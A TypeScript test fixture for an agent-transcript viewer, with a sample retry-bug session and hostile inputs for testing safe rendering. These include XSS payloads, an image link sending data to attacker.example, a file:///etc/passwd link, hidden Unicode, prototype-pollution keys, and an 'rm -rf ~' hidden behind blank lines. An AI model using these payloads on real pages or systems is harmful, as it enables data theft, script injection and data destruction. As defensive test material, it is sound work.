import type { Row, ToolRow } from '../../../src/transcript/row.ts';

/** Friday, 20 November 2026, 14:02 UTC: the fixed "now" of the page's tests. */
export const NOW = Date.UTC(2026, 10, 20, 14, 2, 31);
const at = (seconds: number) => NOW + (seconds - 200) * 1_000;

export function text(value: string) {
  return { type: 'text', text: value, total: value.length } as const;
}

export function tool(key: string, part: Partial<ToolRow>): ToolRow {
  const inputJson = part.inputJson ?? '{}';
  return {
    kind: 'tool',
    key,
    at: at(10),
    eventId: `sevt_${key}`,
    family: 'builtin',
    name: 'bash',
    server: null,
    input: { view: 'json' },
    inputJson,
    inputTotal: inputJson.length,
    inputComplete: true,
    inputHash: `hash-${key}`,
    status: 'done',
    result: [],
    durationMs: 100,
    resultBy: 'agent',
    resultAt: null,
    decision: null,
    thread: null,
    ...part,
  };
}

export function shell(key: string, command: string, part: Partial<ToolRow> = {}): ToolRow {
  const inputJson = JSON.stringify({ command }, null, 2);
  return tool(key, {
    input: { view: 'shell', command },
    inputJson,
    ...part,
  });
}

const reply = `The timer is the cause. Both the **timeout handler** and the rejected promise call \`scheduleRetry\`, so one failure counts twice.

1. Clear the timer before the promise settles.
2. Count attempts in *one* place.
3. Cover it with a fake clock.

\`\`\`ts
.catch((error) => {
  clearTimeout(this.timer);
  this.scheduleRetry(job, error);
});
\`\`\`

| Case | Before | After |
|---|---:|---:|
| timeout | 2 calls | 1 call |
| refused | 1 call | 1 call |

See the [retry guide](https://docs.example.com/retries) for the back-off table.

> The limit is 5 attempts, as in the contract.

![diagram](https://attacker.example/?d=secret)`;

const before = `  return this.send(job)
    .catch(() => this.scheduleRetry(job))
    .finally(() => this.release(job));`;
const after = `  return this.send(job)
    .catch((error) => {
      clearTimeout(this.timer);
      this.scheduleRetry(job, error);
    })
    .finally(() => this.release(job));`;

const onePixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** A conversation with one of everything. */
export const tour: readonly Row[] = [
  {
    kind: 'userMessage',
    key: 'u0',
    at: at(-90_000),
    eventId: 'e0',
    state: 'done',
    blocks: [text('Which tests cover the billing client?')],
  },
  {
    kind: 'agentMessage',
    key: 'a0',
    at: at(-89_990),
    eventId: 'e1',
    streaming: false,
    blocks: [text('Two files: `retry.test.ts` and `client.test.ts`. Neither covers a timeout.')],
  },
  { kind: 'notice', key: 'n0', at: at(-89_980), eventId: 'e2', tone: 'good', code: 'idle.endTurn', args: {} },
  {
    kind: 'userMessage',
    key: 'u1',
    at: at(0),
    eventId: 'e3',
    state: 'done',
    blocks: [
      text(
        'Retries on the billing client fire twice after a timeout.\nFind out why and fix it, with a test.',
      ),
    ],
  },
  {
    kind: 'thinking',
    key: 't1',
    at: at(6),
    eventId: 'e4',
    text: 'The double call suggests that two handlers schedule a retry.',
    streaming: false,
    durationMs: 6_200,
  },
  {
    kind: 'agentMessage',
    key: 'a1',
    at: at(8),
    eventId: 'e5',
    streaming: false,
    blocks: [text("I'll look at how the retry timer is cleared first.")],
  },
  shell('c1', 'rg -n "scheduleRetry" src/billing', {
    durationMs: 400,
    result: [
      {
        type: 'text',
        text: 'src/billing/retry.ts:48:    this.timer = setTimeout(() => this.scheduleRetry(job), ms)\nsrc/billing/retry.ts:61:    .catch(() => this.scheduleRetry(job))\nsrc/billing/client.ts:112:  retry.scheduleRetry(job)',
        total: 31_204,
      },
    ],
  }),
  tool('c2', {
    name: 'read',
    input: { view: 'path', path: 'src/billing/retry.ts', detail: '40–72' },
    durationMs: 40,
    result: [text('…')],
  }),
  tool('c3', {
    name: 'edit',
    input: { view: 'edit', path: 'src/billing/retry.ts', before, after },
    durationMs: 120,
    result: [],
  }),
  shell('c4', 'npm test -- retry', {
    status: 'failed',
    durationMs: 8_200,
    result: [
      text(
        '\u001b[31m1 failing\u001b[0m\n\n  1) retry counts one attempt per failure\n     AssertionError: expected 2 to equal 1',
      ),
    ],
  }),
  tool('c5', {
    name: 'get_issue',
    family: 'mcp',
    server: 'tracker',
    inputJson: '{\n  "number": 4182,\n  "fields": [\n    "title",\n    "state"\n  ]\n}',
    durationMs: 900,
    result: [text('{"title":"Retries fire twice","state":"open"}')],
  }),
  tool('c6', {
    name: 'search',
    input: { view: 'search', pattern: 'clearTimeout', path: 'src' },
    status: 'denied',
    durationMs: null,
  }),
  { kind: 'agentMessage', key: 'a2', at: at(60), eventId: 'e9', streaming: false, blocks: [text(reply)] },
  {
    kind: 'notice',
    key: 'n1',
    at: at(70),
    eventId: 'e10',
    tone: 'warning',
    code: 'error.retrying',
    args: { message: 'The model is overloaded' },
  },
  {
    kind: 'raw',
    key: 'r1',
    at: at(80),
    eventId: 'e11',
    type: 'session.future_thing',
    json: '{\n  "type": "session.future_thing"\n}',
    total: 36,
  },
  {
    kind: 'userMessage',
    key: 'u2',
    at: at(90),
    eventId: null,
    state: 'failed',
    blocks: [text('Push it when the tests pass.')],
  },
  {
    kind: 'agentMessage',
    key: 'a3',
    at: at(95),
    eventId: 'e12',
    streaming: false,
    blocks: [
      { type: 'image', mediaType: 'image/png', data: onePixel, bytes: 70 },
      { type: 'image', mediaType: 'image/svg+xml', data: 'PHN2Zz4=', bytes: 6 },
      { type: 'redacted' },
    ],
  },
  shell('c7', 'git push origin fix/billing-retries --force-with-lease', {
    status: 'needsApproval',
    result: null,
    durationMs: null,
  }),
  tool('c8', {
    name: 'ask_release_manager',
    family: 'custom',
    status: 'needsResult',
    inputJson: '{\n  "question": "May the fix go into 4.2?"\n}',
    result: null,
    durationMs: null,
  }),
  {
    kind: 'userMessage',
    key: 'u3',
    at: at(110),
    eventId: 'e14',
    state: 'queued',
    blocks: [text('And add a line to the changelog.')],
  },
];

/** A row of a long session: a mix of kinds whose heights differ. */
export function syntheticRow(position: number): Row {
  const base = { key: `row:${position}`, at: NOW - 3_600_000 + position * 10, eventId: `e${position}` };
  switch (((position % 5) + 5) % 5) {
    case 0:
      return { ...base, kind: 'userMessage', state: 'done', blocks: [text(`Question ${position}`)] };
    case 1:
      return {
        ...base,
        kind: 'agentMessage',
        streaming: false,
        blocks: [
          text(
            `Answer **${position}**. ${'Some more words to fill lines. '.repeat(Math.abs(position * 7) % 23)}`,
          ),
        ],
      };
    default:
      return shell(`row:${position}`, `echo ${position}`, { at: base.at, result: [text(`${position}`)] });
  }
}

/** A dangerous tail behind more blanks than a screen holds. */
export const longApproval = shell(
  'long',
  `ls -la${' '.repeat(40)}${'\n'.repeat(60)}echo ok\n`.repeat(12) + 'rm -rf ~',
  {
    status: 'needsApproval',
    result: null,
    durationMs: null,
  },
);

/** An input of which the page has only the beginning. */
export const cutApproval = tool('cut', {
  status: 'needsApproval',
  result: null,
  durationMs: null,
  inputJson: `{ "text": "${'x'.repeat(4_000)}`,
  inputTotal: 90_000,
});

const hostileText = `<script>document.title = 'owned'</script> <img src=x onerror=alert(1)>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

[https://good.example](https://evil.example) [a](javascript:alert(1)) [b](command:workbench.action.quit)
[c](data:text/html,x) [d](file:///etc/passwd) [e](vscode://x) ![f](https://attacker.example/?d=1) <https://x@y

![g][ref] \u202Eright to left\u202C zero\u200Bwidth

[ref]: https://attacker.example/ref.png`;

export const hostile: readonly Row[] = [
  {
    kind: 'agentMessage',
    key: '__proto__',
    at: NOW,
    eventId: 'h1',
    streaming: false,
    blocks: [text(hostileText)],
  },
  {
    kind: 'userMessage',
    key: 'constructor',
    at: NOW,
    eventId: 'h2',
    state: 'done',
    blocks: [text(hostileText)],
  },
  shell('toString', `echo "${hostileText}"`, {
    status: 'failed',
    result: [text(hostileText), text('\u001b]0;title\u0007')],
  }),
  {
    kind: 'raw',
    key: 'valueOf',
    at: NOW,
    eventId: 'h3',
    type: '<b>bold</b>',
    json: hostileText,
    total: hostileText.length,
  },
];
